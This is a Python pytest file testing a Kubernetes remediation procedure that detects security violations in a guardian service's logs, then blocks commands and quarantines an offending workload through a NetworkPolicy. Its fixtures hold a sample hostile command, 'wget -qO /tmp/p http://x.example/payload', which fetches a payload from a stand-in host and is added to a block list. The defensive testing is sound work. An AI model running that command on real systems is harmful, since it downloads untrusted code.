"""security_violations' Kubernetes side: guardian-arm's log from its pods (served by the Kubernetes API EMULATOR),
its blocked lists and settings from its ConfigMaps, a quarantine NetworkPolicy for an offending workload, and the
exact body of every API write.

What the emulator cannot show: NetworkPolicy enforcement (it needs a CNI that implements it), a rollout that
replaces the guardian's pods (and drops their logs), the kubelet refreshing a mounted ConfigMap. Those need the
`cluster` suite.
"""

from __future__ import annotations

import datetime
import json
import stat
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.octollm.remediation.plugins.plugin_utils.settings import procedure_settings
from conftest import closed_port
from k8s_emulator import KubernetesAPIEmulator
from k8s_results import by_check, collect_evidence

pytestmark = pytest.mark.kubernetes

RESTARTED_AT = "kubectl.kubernetes.io/restartedAt"
CONFIGMAP_PATH = "/api/v1/namespaces/octollm/configmaps/guardian-config"
POLICIES_PATH = "/apis/networking.k8s.io/v1/namespaces/octollm/networkpolicies"
GUARDIAN_PATH = "/apis/apps/v1/namespaces/octollm/deployments/guardian-arm"
EMAIL = "alice.secret@example.com"
QUIET = ["2026-11-28T19:00:00.000Z INFO guardian-arm audit check source=loadgen allowed=true violations=0"]
FAULT = [
    "2026-11-28T19:00:01.000Z WARNING guardian-arm security violation type=blocked_command source=scraper "
    'command="wget -qO /tmp/p http://x.example/payload" pattern="re:wget"',
] * 3 + [
    f"2026-11-28T19:00:02.000Z WARNING guardian-arm PII detected type=email source=scraper value={EMAIL}",
    "2026-11-28T19:00:03.000Z WARNING guardian-arm unauthorized attempt source=scraper",
]
SETTINGS = procedure_settings("security_violations", platform="kubernetes")
PATTERNS = {"security_violation": "security violation", "security_pii": "PII detected",
            "security_unauthorized": "unauthorized attempt"}
# the API reads of the role's one gather task on Kubernetes (the procedure's needs, checked below)
OBJECTS = {
    "security_violations_pods": {"kind": "Pod", "label_selector": "app=guardian-arm",
                                 "logs": {"tail": 2000, "since_seconds": 900, "patterns": PATTERNS}},
    "security_violations_guardian_configmap": {"kind": "ConfigMap", "name": "guardian-config"},
    "security_violations_settings_configmap": {"kind": "ConfigMap", "name": "octollm-config"},
    "security_violations_network_policies": {"kind": "NetworkPolicy", "api_version": "networking.k8s.io/v1"},
    "security_violations_workloads": {"kind": "Deployment", "api_version": "apps/v1"},
}
QUARANTINE_POLICY = {
    "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
    "metadata": {"name": "octollm-quarantine", "namespace": "octollm",
                 "labels": {"app.kubernetes.io/managed-by": "octollm-remediation"}},
    "spec": {"podSelector": {"matchExpressions": [{"key": "octollm.io/quarantine", "operator": "Exists"}]},
             "policyTypes": ["Ingress", "Egress"], "ingress": [], "egress": []},
}


def guardian_pod(k8s_api: KubernetesAPIEmulator) -> str:
    return str(k8s_api.objects_of("v1/pods", "app=guardian-arm")[0]["metadata"]["name"])


def add_scraper(k8s_api: KubernetesAPIEmulator) -> str:
    """A workload of the namespace that keeps sending blocked requests (its name is the guardian's `source`)."""
    labels = {"app": "scraper"}
    deployment = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "scraper", "labels": labels},
                  "spec": {"replicas": 1, "selector": {"matchLabels": labels},
                           "template": {"metadata": {"labels": labels},
                                        "spec": {"containers": [{"name": "scraper", "image": "curl"}]}}}}
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "scraper-7d9f-abcde", "labels": dict(labels)},
           "spec": {"containers": [{"name": "scraper", "image": "curl"}]},
           "status": {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}]}}
    k8s_api.seed([deployment, pod])
    return "scraper-7d9f-abcde"


def collect(k8s_api: KubernetesAPIEmulator, tmp_path: Path) -> dict[str, Any]:
    """The evidence of the role's one gather task on Kubernetes (stack_evidence's collectors, called directly)."""
    return collect_evidence(k8s_api, tmp_path, OBJECTS)


def test_the_reads_are_the_procedures_kubernetes_needs() -> None:
    from ansible_collections.octollm.remediation.plugins.plugin_utils import security_violations as sv
    from ansible_collections.octollm.remediation.plugins.plugin_utils.procedure import Context

    needs = sv.PROCEDURE.needs(SETTINGS, Context(platform="kubernetes", inventory={"k8s": {"namespace": "octollm"}}))
    assert needs["kubernetes"]["objects"] == OBJECTS
    assert "containers" not in needs  # no docker: the log, lists and settings come from the cluster
    assert set(needs) == {"kubernetes", "prometheus", "logs"}


def test_a_healthy_cluster_gives_no_problem(k8s_api: KubernetesAPIEmulator, tmp_path: Path) -> None:
    from ansible_collections.octollm.remediation.plugins.plugin_utils import security_violations_kubernetes as svk

    k8s_api.set_log(guardian_pod(k8s_api), "\n".join(QUIET) + "\n")
    evidence = collect(k8s_api, tmp_path)
    diagnosis = svk.diagnose(evidence, SETTINGS)
    found = by_check(diagnosis["findings"])
    for check in ("security.violations", "security.blocked_commands", "security.sources", "security.pii_in_logs",
                  "k8s.offending_workloads"):
        assert found[check]["status"] == "ok", found[check]
    assert found["security.blocked_commands"]["observed"] == "3 patterns"  # read from the guardian's ConfigMap
    assert svk.plan(diagnosis, SETTINGS) == []
    prevention = svk.prevention(evidence, SETTINGS)
    checks = by_check(prevention["findings"])
    assert checks["prevent.guardian.audit_log"]["status"] == "ok"  # GUARDIAN_AUDIT_LOG "true" in octollm-config
    assert checks["prevent.guardian.redact_logs"]["status"] == "warning"  # GUARDIAN_REDACT_LOGS is not set
    assert checks["prevent.k8s.network_policy"]["status"] == "warning"  # the lab has no NetworkPolicy
    [create] = prevention["actions"]
    assert create["id"] == "security_violations.prevent.quarantine_policy" and create["status"] == "planned"
    assert create["disruptive"] is False and create["change"]["_definition"] == QUARANTINE_POLICY
    assert k8s_api.writes() == []


def test_the_fault_holds_every_scenario_and_disruptive_steps_wait(k8s_api: KubernetesAPIEmulator,
                                                                   tmp_path: Path) -> None:
    from ansible_collections.octollm.remediation.plugins.plugin_utils import security_violations_kubernetes as svk

    add_scraper(k8s_api)
    k8s_api.set_log(guardian_pod(k8s_api), "\n".join(QUIET + FAULT) + "\n")
    settings = procedure_settings(
        "security_violations",
        {"evidence_dir": str(tmp_path / "evidence"), "quarantine_dir": str(tmp_path / "quarantine")},
        platform="kubernetes",
    )
    diagnosis = svk.diagnose(collect(k8s_api, tmp_path), settings)
    assert EMAIL not in json.dumps(diagnosis)  # masked by the collector
    found = by_check(diagnosis["findings"])
    assert {s["id"]: s["holds"] for s in diagnosis["scenarios"]} == {"A": True, "B": True, "C": True, "D": True}
    assert found["security.pii_in_logs"]["evidence"]["matches_by_kind"] == {"email": 1}
    assert found["security.blocked_commands"]["evidence"]["not_listed"] == ["wget -qO /tmp/p http://x.example/payload"]
    assert found["k8s.offending_workloads"]["status"] == "problem"
    assert found["k8s.offending_workloads"]["observed"] == "Deployment/scraper"
    assert diagnosis["escalation"]["level"] == "L3"

    planned = {a["id"]: a for a in svk.plan(diagnosis, settings)}
    assert list(planned) == ["security_violations.B.block_commands", "security_violations.C.block_sources",
                             "security_violations.C.quarantine_scraper", "security_violations.D.quarantine_logs",
                             "security_violations.A.bundle_evidence", "security_violations.escalate"]
    commands = planned["security_violations.B.block_commands"]
    assert commands["status"] == "planned" and commands["_apply"] == "add_configmap_lines"
    assert commands["change"] == {"file": "configmap/octollm/guardian-config:blocked_commands.txt",
                                  "configmap": "guardian-config", "key": "blocked_commands.txt",
                                  "add": ["wget -qO /tmp/p http://x.example/payload"],
                                  "then": "rollout restart of Deployment/guardian-arm"}
    quarantine = planned["security_violations.C.quarantine_scraper"]
    assert quarantine["status"] == "awaiting_approval" and quarantine["disruptive"] is True
    assert quarantine["change"]["pod_selector"] == "app=scraper"
    assert quarantine["change"]["label"] == {"octollm.io/quarantine": "scraper"}
    logs = planned["security_violations.D.quarantine_logs"]
    assert logs["status"] == "awaiting_approval" and logs["change"]["pods"] == [guardian_pod(k8s_api)]
    assert planned["security_violations.escalate"]["status"] == "report"
    # without D, one rollout restart loads the patched lists (it follows the ConfigMap patch)
    without_d = {a["id"]: a for a in svk.plan({**diagnosis, "scenarios": [
        dict(s, holds=s["id"] != "D") for s in diagnosis["scenarios"]]}, dict(settings, approve=True))}
    reload = without_d["security_violations.reload_guardian"]
    assert reload["status"] == "planned" and reload["disruptive"] is True and reload["_apply"] == "restart_guardian"
    assert k8s_api.writes() == []


def run_env() -> dict[str, str]:
    return {"OCTOLLM_POSTGRES_PORT": str(closed_port())}


def test_resolve_with_approval_blocks_quarantines_and_replaces_the_guardian(
        run_k8s: Any, k8s_api: KubernetesAPIEmulator, tmp_path: Path) -> None:
    scraper = add_scraper(k8s_api)
    guardian = guardian_pod(k8s_api)
    k8s_api.set_log(guardian, "\n".join(QUIET + FAULT) + "\n")
    before = k8s_api.get("v1/configmaps", "guardian-config")["data"]
    started = datetime.datetime.now(datetime.UTC).replace(microsecond=0)
    evidence_dir, quarantine_dir = tmp_path / "evidence", tmp_path / "quarantine"
    result = run_k8s("security_violations", "resolve", env=run_env(), octollm_approve=True, octollm_run_id="run1",
                     security_violations_evidence_dir=str(evidence_dir),
                     security_violations_quarantine_dir=str(quarantine_dir),
                     security_violations_k8s_rollout_timeout=0)

    actions = {a["id"]: a for a in result["actions"]}
    for action_id in ("security_violations.B.block_commands", "security_violations.C.block_sources",
                      "security_violations.C.quarantine_scraper", "security_violations.D.quarantine_logs",
                      "security_violations.A.bundle_evidence"):
        assert actions[action_id]["status"] == "applied", (action_id, actions[action_id]["outcome"])
    assert actions["security_violations.C.quarantine_scraper"]["change"]["pods"] == [scraper]
    assert result["escalation"]["level"] == "L3"

    writes = k8s_api.writes()
    assert [(w.method, w.path) for w in writes] == [
        ("PATCH", CONFIGMAP_PATH), ("PATCH", CONFIGMAP_PATH), ("POST", POLICIES_PATH),
        ("PATCH", f"/api/v1/namespaces/octollm/pods/{scraper}"), ("PATCH", GUARDIAN_PATH)]
    commands, sources, policy, label, restart = writes
    for write in (commands, sources):
        assert write.content_type in ("application/strategic-merge-patch+json", "application/merge-patch+json")
        assert set(write.body) <= {"apiVersion", "kind", "metadata", "data"}
    assert commands.body["data"] == {
        "blocked_commands.txt": before["blocked_commands.txt"] + "wget -qO /tmp/p http://x.example/payload\n"}
    assert sources.body["data"] == {"blocked_sources.txt": "scraper\n"}
    assert policy.content_type == "application/json" and policy.body == QUARANTINE_POLICY
    assert label.content_type == "application/strategic-merge-patch+json"
    assert label.body["metadata"]["labels"] == {"octollm.io/quarantine": "scraper"}
    assert set(label.body) <= {"apiVersion", "kind", "metadata"} and set(label.body["metadata"]) <= {
        "name", "namespace", "labels"}
    stamp = restart.body["spec"]["template"]["metadata"]["annotations"][RESTARTED_AT]
    assert restart.content_type == "application/strategic-merge-patch+json"
    assert restart.body["spec"] == {"template": {"metadata": {"annotations": {RESTARTED_AT: stamp}}}}
    when = datetime.datetime.strptime(stamp, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=datetime.UTC)
    assert started - datetime.timedelta(seconds=5) <= when <= datetime.datetime.now(datetime.UTC)
    assert f"/api/v1/namespaces/octollm/pods/{guardian}/log" in k8s_api.reads()  # k8s_log's read

    # the raw log is quarantined (mode 600), the bundle and the result hold no raw PII
    copy = quarantine_dir / f"run1-{guardian}.log"
    assert EMAIL in copy.read_text() and stat.S_IMODE(copy.stat().st_mode) == 0o600
    bundle = evidence_dir / "run1.json"
    assert EMAIL not in bundle.read_text() and json.loads(bundle.read_text())["procedure"] == "security_violations"
    assert "handled upto=2026-11-28T19:00:03.000Z" in (evidence_dir / "handled.log").read_text()
    assert EMAIL not in json.dumps(result)
    # verification: the lists hold the lines now, the workload is quarantined; the emulator still serves the old
    # guardian pod and its log (no controller replaced it), so the PII is reported as left
    after = by_check(result["verification"]["findings"])
    assert after["security.blocked_commands"]["status"] == "ok" and after["security.sources"]["status"] == "ok"
    assert after["security.violations"]["status"] == "ok"  # bundled and marked handled
    assert after["security.pii_in_logs"]["status"] == "problem"


def test_prevent_creates_the_quarantine_ready_policy(run_k8s: Any, k8s_api: KubernetesAPIEmulator) -> None:
    k8s_api.set_log(guardian_pod(k8s_api), "\n".join(QUIET) + "\n")
    result = run_k8s("security_violations", "prevent", env=run_env())
    before = by_check(result["prevention"]["findings_before"])
    assert before["prevent.k8s.network_policy"]["status"] == "warning"
    after = by_check(result["prevention"]["findings"])
    assert after["prevent.k8s.network_policy"]["status"] == "ok"
    assert after["prevent.k8s.network_policy"]["observed"] == "quarantine-ready: octollm-quarantine"
    assert after["prevent.guardian.audit_log"]["status"] == "ok"
    [create] = result["prevention"]["actions"]
    assert create["status"] == "applied" and create["outcome"] == "NetworkPolicy octollm-quarantine created"
    assert "_definition" not in create["change"]  # internal keys stay out of the report
    writes = k8s_api.writes()
    assert [(w.method, w.path) for w in writes] == [("POST", POLICIES_PATH)]
    assert writes[0].body == QUARANTINE_POLICY
    assert k8s_api.get("networking.k8s.io/v1/networkpolicies", "octollm-quarantine")["spec"] == \
        QUARANTINE_POLICY["spec"]
